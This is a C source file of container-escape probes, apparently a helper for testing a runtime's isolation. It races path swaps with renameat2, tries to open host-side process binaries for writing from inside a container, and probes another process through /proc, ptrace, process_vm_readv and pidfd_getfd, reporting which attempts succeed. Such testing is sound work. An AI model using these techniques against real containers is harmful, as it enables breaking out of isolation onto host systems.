/* Programs that attack from inside a container; static.
 *
 *   attacks swap A B     exchange two names without end (renameat2(2), RENAME_EXCHANGE)
 *   attacks overwrite    look for processes that come from outside and try to open their program for writing; says "ready", then
 *                        "seen NAME" for each, "WROTE NAME" when one could be opened
 *   attacks read-pid N   try to trace, and to read memory, root and descriptors of process N
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static void swap(const char *a, const char *b) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
}

static void overwrite(void) {
    static char seen[64][256];
    int count = 0;
    struct stat own;
    stat("/proc/self/exe", &own);
    puts("ready");
    for (;;) {
        DIR *all = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(all))) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
            char path[300], name[256] = {0}, again[64];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH);
            if (fd < 0) continue;
            struct stat status;
            fstat(fd, &status);
            if (readlink(path, name, sizeof name - 1) > 0 && status.st_dev != own.st_dev) {
                int known = 0;
                for (int i = 0; i < count; i++) known |= !strcmp(seen[i], name);
                if (!known && count < 64) { strcpy(seen[count++], name); printf("seen %s\n", name); }
                snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
                for (int attempt = 0; attempt < 200; attempt++) {
                    int writable = open(again, O_WRONLY);
                    if (writable < 0) continue;
                    printf("WROTE %s\n", name);
                    close(writable);
                    break;
                }
            }
            close(fd);
        }
        closedir(all);
    }
}

static void report(const char *what, long result) { printf("%s %s\n", what, result >= 0 ? "WORKED" : strerrorname_np(errno)); }

static int read_pid(const char *pid) {
    static const char *const names[] = {"root/etc", "cwd/.", "fd/0", "mem", "environ", "maps", "exe", "ns/mnt", "syscall", "stack"};
    long number = atol(pid);
    char buffer[64], path[128];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, names[i]);
        int fd = open(path, O_RDONLY);
        report(names[i], fd < 0 ? -1 : strchr(names[i], '.') || strchr(names[i], '/') ? fd : read(fd, buffer, 1));
    }
    struct iovec here = {buffer, 8}, there = {(void *)0x400000, 8};
    report("process_vm_readv", syscall(SYS_process_vm_readv, number, &here, 1L, &there, 1L, 0L));
    report("ptrace", ptrace(PTRACE_SEIZE, number, 0, 0));
    report("pidfd_getfd", syscall(438, syscall(434, number, 0), 0, 0));
    report("signal", syscall(SYS_kill, number, 0) == 0 && getuid() ? 0 : -1);
    return 0;
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (count == 4 && !strcmp(words[1], "swap")) swap(words[2], words[3]);
    if (count == 2 && !strcmp(words[1], "overwrite")) overwrite();
    if (count == 3 && !strcmp(words[1], "read-pid")) return read_pid(words[2]);
    return 2;
}
